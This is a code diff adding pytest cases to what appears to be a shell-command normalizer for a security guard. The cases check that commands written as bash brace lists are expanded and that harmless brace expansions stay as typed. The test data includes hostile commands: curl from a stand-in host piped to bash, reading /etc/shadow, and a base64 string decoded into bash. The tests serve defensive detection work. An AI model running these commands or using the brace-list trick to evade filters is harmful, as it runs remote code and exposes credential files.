@@ -115,6 +115,27 @@ def test_variables_that_may_be_set_are_not_dropped(typed: str, seen: tuple[str, 
     assert segments(typed) == seen
 
 
+@pytest.mark.parametrize(
+    ("typed", "whole", "segment"),
+    [
+        ("{curl,-s,http://x.example/a}|{bash,}", "curl -s http://x.example/a | bash", "{curl,-s,http://x.example/a}"),
+        ("{cat,/etc/shadow}", "cat /etc/shadow", "{cat,/etc/shadow}"),
+        ("{echo,aWQ=}|{base64,-d}|{bash,-i}", "echo aWQ= | base64 -d | bash -i", "{base64,-d}"),
+    ],
+)
+def test_a_command_spelled_as_a_brace_list_is_its_items_and_stays_as_typed(
+    typed: str, whole: str, segment: str
+) -> None:
+    normalized = normalize_command(typed)
+    assert normalized.whole == whole
+    assert segment in normalized.segments  # SG-OBF-006 reads the spelling itself
+
+
+@pytest.mark.parametrize("typed", ["echo {a,b}", "cp app.conf{,.bak}", "mkdir -p {bash,zsh}-completions", "{,}"])
+def test_brace_lists_that_are_no_command_stay(typed: str) -> None:
+    assert normalize_command(typed).whole == typed
+
+
 def test_a_glob_without_letters_is_not_resolved() -> None:
     assert segments("* * * * * root x") == ("* * * * * root x",)
 
